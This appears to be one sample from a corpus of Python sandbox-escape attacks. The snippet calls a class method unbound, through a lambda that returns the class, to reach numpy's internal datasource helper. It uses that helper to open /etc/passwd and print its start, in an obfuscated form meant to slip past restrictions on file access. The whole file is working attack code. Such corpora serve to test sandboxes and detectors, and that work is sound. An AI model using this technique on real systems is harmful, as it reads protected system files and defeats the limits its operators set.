# source: Python method binding (a def in a class body is a plain function, Class.method(obj) runs it with self=obj; Python tutorial 9.3.4) and attack12x_005 of this corpus
# family: unbound method reached through a class object taken as a value (a lambda returning the class)
# goal: numpy.lib._datasource through self._datasource on a module: io.open of /etc/passwd
import numpy as np


class Cache:
    def __init__(self):
        self._datasource = None

    def backend(self):
        return self._datasource


ds = (lambda: Cache)().backend(np.lib)
print(ds._open("/etc/passwd").read()[:80])
